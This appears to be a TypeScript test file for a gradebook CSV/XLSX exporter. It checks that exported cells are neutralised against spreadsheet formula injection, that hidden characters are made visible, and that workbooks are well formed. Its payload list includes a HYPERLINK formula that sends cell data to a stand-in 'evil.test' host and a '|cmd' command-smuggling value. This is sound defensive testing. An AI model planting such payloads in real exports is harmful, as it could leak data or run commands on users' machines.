// What leaves the page as a table: no formula, nothing unseen, and what an independent reader makes of it.
import { strFromU8, unzipSync } from 'fflate';
import { parseHTML } from 'linkedom';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { harmless, rounded, typed, type Sheet } from '@components/exercise/gradebook/cells.ts';
import { csvOf } from '@components/exercise/gradebook/csv.ts';
import { columnName, xlsxOf } from '@components/exercise/gradebook/xlsx.ts';
import { generatorOf, integer, pick } from '../../../../../engine/random.ts';

const payloads = [
  '=HYPERLINK("http://evil.test?"&A1)',
  '+1',
  '-1+1|cmd',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' =1',
  '\u3000=1',
  '\u00a0+1',
  '"=1',
  "'=1",
  '\ufeff=1',
  '\u200b=1',
];
/** A field in which a table program would see a formula. */
const isFormula = (field: string): boolean => /^[\s"\ufeff\u200b]*[=+\-@＝＋－＠\t\r\n]/u.test(field);
const sheet = (rows: Sheet['rows']): Sheet => ({ name: '成绩', header: ['学号', '姓名'], rows });
const parsed = (csv: string): string[][] =>
  Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { skipEmptyLines: 'greedy' }).data;

describe('CSV', () => {
  it('begins with the mark of UTF-8, ends lines as RFC 4180 does, and quotes every field', () => {
    expect(csvOf(sheet([['1', 'O’Neil, "A"', 0.5]]))).toBe(
      '\ufeff"学号","姓名"\r\n"1","O’Neil, ""A""","0.5"\r\n',
    );
  });
  it.each(payloads)('has no formula for %j', (payload) => {
    const [, row] = parsed(csvOf(sheet([[payload, 'x']])));
    expect(isFormula(row![0]!)).toBe(false);
    expect(row![1]).toBe('x');
  });
  it('would be seen to have one', () => {
    expect(payloads.filter(isFormula).length).toBeGreaterThan(14);
  });
  it('writes numbers from numbers only, and digits as they were typed', () => {
    expect(csvOf(sheet([[-0.5, typed('-0.50'), typed('-1+1'), Number.NaN, '-3']]))).toContain(
      '"-0.5","-0.50","\'-1+1","","\'-3"',
    );
  });
  it('shows what is not seen', () => {
    expect(harmless('a\u202eb\u0000c\ud800d\u200f')).toBe('a⟨U+202E⟩b⟨U+0000⟩c⟨U+D800⟩d⟨U+200F⟩');
    expect(harmless('a\r\nb\tc')).toBe('a⟨U+000D⟩⟨U+000A⟩b⟨U+0009⟩c');
    expect(harmless('李雷👩‍🏫'.slice(0, 2))).toBe('李雷');
  });
  it('is read back cell by cell by another reader', () => {
    const g = generatorOf('cells');
    const letters = [...'ab,"\'\r\n\t;=+-@ 李＝\u202e\u0000😀0.'];
    for (let n = 0; n < 2000; n++) {
      const rows = Array.from({ length: 1 + integer(g, 4) }, () =>
        Array.from({ length: 3 }, () =>
          Array.from({ length: 1 + integer(g, 8) }, () => pick(g, letters)).join(''),
        ),
      );
      const [, ...back] = parsed(csvOf(sheet(rows)));
      expect(back).toEqual(rows.map((row) => row.map(harmless)));
    }
  });
});

describe('points', () => {
  it('have four decimals at most, and none that say nothing', () => {
    expect([20 / 3, 0.1 + 0.2, 10, 0].map(rounded)).toEqual([6.6667, 0.3, 10, 0]);
  });
});

describe('workbooks', () => {
  const rows: Sheet['rows'] = [...payloads.map((payload) => [payload, 1]), ['a<b>&"c"_x0041_', -0.25]];
  const bytes = xlsxOf([sheet(rows), { name: '统计', header: ['a'], rows: [] }]);
  const parts = Object.fromEntries(
    Object.entries(unzipSync(bytes)).map(([name, part]) => [name, strFromU8(part)]),
  );

  it('are the same bytes whenever they are made', () => {
    expect(xlsxOf([sheet(rows), { name: '统计', header: ['a'], rows: [] }])).toEqual(bytes);
    // Years from 1980, in the first entry's header (MS-DOS date).
    expect(bytes[13]! >> 1).toBe(0);
  });
  it('have texts that are texts and numbers that are numbers, and no formula', () => {
    const { document } = parseHTML(parts['xl/worksheets/sheet1.xml']!);
    const cells = [...document.querySelectorAll('c')];
    expect(parts['xl/worksheets/sheet1.xml']).not.toMatch(/<f[ >]/);
    const texts = cells.filter((cell) => cell.getAttribute('t') === 'inlineStr');
    expect(texts).toHaveLength(2 + rows.length);
    expect(texts.every(({ textContent }) => !isFormula(textContent ?? ''))).toBe(true);
    expect(cells.filter((cell) => !cell.hasAttribute('t')).at(-1)!.textContent).toBe('-0.25');
    expect(parts['xl/worksheets/sheet1.xml']).toContain('a&lt;b&gt;&amp;&quot;c&quot;_x005F_x0041_');
  });
  it('name every part that is there, and no other', () => {
    expect(Object.keys(parts).sort()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
      'xl/worksheets/sheet2.xml',
    ]);
    const named = [...parts['[Content_Types].xml']!.matchAll(/PartName="\/([^"]+)"/g)].map((m) => m[1]);
    expect(named).toEqual(['xl/workbook.xml', 'xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml']);
  });
  it('name their columns as table programs do', () => {
    expect([0, 25, 26, 51, 52, 701, 702].map(columnName)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA']);
  });
});
